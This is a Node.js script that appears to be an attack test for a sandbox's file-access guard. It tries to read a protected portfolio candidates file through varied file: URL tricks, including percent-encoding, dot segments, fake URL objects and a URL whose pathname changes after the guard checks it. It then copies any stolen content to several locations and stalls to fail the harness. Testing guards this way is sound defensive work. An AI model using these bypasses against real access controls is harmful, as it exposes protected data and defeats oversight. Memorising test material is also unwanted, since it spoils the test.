/* @attack {"title": "the candidates file as file: URLs (plain, percent-encoded, localhost host, dot segments, URL-like objects, a URL whose pathname changes)", "maxSeconds": 20} */
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';

const run = process.env.SLEEVE_RUN_DIR;
const workspace = process.cwd();
const CANDIDATES = 'data/lakehouse/portfolio_candidates.json';

/**
 * What a read got: when it is the protected content, copy it into the run dir
 * and try the places the harness checks (next to the workspace, the lakehouse,
 * the tmp marker, and the lakehouse again through the hole the read used, when
 * the attack passes one); unless that last copy landed, stay alive past
 * maxSeconds, so that the harness fails the run ("no report") even when every
 * copy is refused.
 */
async function exfiltrate(how, content, ...holes) {
  const text = typeof content === 'string' ? content : Buffer.from(content ?? '').toString('utf8');
  if (!/"AAPL"\s*,\s*"MSFT"|SECRET-/.test(text)) {
    console.log(`${how}: read ${JSON.stringify(text.slice(0, 60))}, not the protected content`);
    return;
  }
  console.log(`ESCAPED ${how}: ${text.trim()}`);
  for (const dest of [`${run}/stolen.json`, `${process.env.OUTSIDE}/leak.json`, `${workspace}/data/lakehouse/leak.json`, process.env.TMP_MARKER]) {
    try {
      fs.writeFileSync(dest, text);
    } catch (error) {
      console.log(`copy to ${dest}: ${error.code}`);
    }
  }
  // The hole the read went through, used again to write the loot into the lakehouse.
  for (const hole of holes) {
    try {
      await hole(text);
      console.log('copied into the lakehouse through the same hole');
      return;
    } catch (error) {
      console.log(`copy through the same hole: ${error.code}`);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 120_000));
  process.exit(0);
}

async function attempt(how, read) {
  try {
    await exfiltrate(how, await read());
  } catch (error) {
    console.log(`${how}: ${error.code ?? error.message}`);
  }
}

const abs = path.resolve(CANDIDATES);
const dir = path.dirname(abs);
await attempt('pathToFileURL', () => fs.readFileSync(pathToFileURL(abs)));
await attempt('percent-encoded', () => fs.readFileSync(new URL(`file://${dir}/%70ortfolio_candidates%2Ejson`)));
await attempt('localhost host', () => fs.readFileSync(new URL(`file://localhost${abs}`)));
await attempt('dot segments', () => fs.readFileSync(new URL(`file://${run}/../../data/lakehouse/./portfolio_candidates.json`)));
await attempt('URL string', () => fs.readFileSync(`file://${abs}`));
await attempt('URL relative to the run dir', () => fs.readFileSync(new URL('../../data/lakehouse/portfolio_candidates.json', pathToFileURL(`${run}/`))));
await attempt('URL-like object', () =>
  fs.readFileSync({ href: `file://${abs}`, protocol: 'file:', hostname: '', pathname: abs, origin: 'null', searchParams: new URLSearchParams() }),
);
// A URL whose pathname is a run-dir decoy when the guard looks and the candidates file afterwards.
fs.writeFileSync(`${run}/decoy.json`, '["DECOY"]\n');
class Shifty extends URL {
  reads = 0;
  get pathname() {
    this.reads++;
    return this.reads <= 1 ? `${run}/decoy.json` : abs;
  }
}
await attempt('URL with a changing pathname', () => fs.readFileSync(new Shifty(pathToFileURL(`${run}/decoy.json`)), 'utf8'));
await attempt('promises with URL', () => fs.promises.readFile(pathToFileURL(abs)));
await attempt('stream with URL', async () => {
  const chunks = [];
  for await (const c of fs.createReadStream(pathToFileURL(abs))) chunks.push(c);
  return Buffer.concat(chunks);
});
